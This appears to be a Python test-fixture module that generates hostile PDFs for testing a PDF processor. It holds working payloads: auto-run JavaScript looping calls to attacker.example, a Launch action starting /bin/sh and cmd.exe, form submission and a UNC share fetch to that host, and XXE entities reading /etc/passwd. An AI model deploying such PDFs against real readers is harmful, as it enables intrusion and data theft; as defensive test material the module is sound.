"""PDFs that want something to be done: a script run, a program started, an address called, a file opened."""

from __future__ import annotations

from tests.support.hostile.parts import CATALOG, WORDS, one_page, stream

ADDRESS = b"http://attacker.example/taken"


def _opening(action: bytes) -> bytes:
    """At opening, at every turn of the page, and from a field and a link."""
    catalog = (
        b"%s /OpenAction 5 0 R /AA << /WC 5 0 R /DP 5 0 R >> /AcroForm << /Fields [6 0 R] >> >>"
        % CATALOG[:-2]
    )
    field = b"<< /FT /Tx /T (f) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A 5 0 R /AA << /K 5 0 R >> >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 5 0 R >>"
    more = b"/AA << /O 5 0 R >> /Annots [6 0 R 7 0 R]"
    return one_page(WORDS, action, field, link, catalog=catalog, more=more)


def script() -> bytes:
    return _opening(b"<< /S /JavaScript /JS (while\\(1\\){app.launchURL\\('%s'\\)}) >>" % ADDRESS)


def launched_program() -> bytes:
    unix = b"/Unix << /F (/bin/sh) /P (-c 'touch /tmp/taken') >>"
    return _opening(b"<< /S /Launch /F (/bin/sh) %s /Win << /F (cmd.exe) >> >>" % unix)


def submitted_form() -> bytes:
    return _opening(b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> /Flags 4 >>" % ADDRESS)


def called_address() -> bytes:
    return _opening(b"<< /S /URI /URI (%s) >>" % ADDRESS)


def other_file() -> bytes:
    return _opening(b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\taken.pdf) /D [0 /Fit] >>")


def embedded_file() -> bytes:
    return _opening(
        b"<< /S /GoToE /F (file:///etc/passwd) /D [0 /Fit] /T << /R /C /N (taken) /T << /R /P >> >> >>"
    )


def circular_actions() -> bytes:
    return _opening(b"<< /S /JavaScript /JS (1) /Next [5 0 R 5 0 R] >>")


def form_with_entities() -> bytes:
    """An XFA form whose XML asks for a file of ours."""
    xfa = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&f;</xdp:xdp>'
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 5 0 R /Fields [] >> /NeedsRendering true >>"
    return one_page(WORDS, stream(xfa), catalog=catalog)


def metadata_with_entities() -> bytes:
    xmp = (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&f;</dc:title></rdf:Description>'
        b"</rdf:RDF></x:xmpmeta><?xpacket end='w'?>"
    )
    catalog = CATALOG[:-2] + b"/Metadata 5 0 R >>"
    return one_page(WORDS, stream(xmp, b"/Type /Metadata /Subtype /XML"), catalog=catalog)
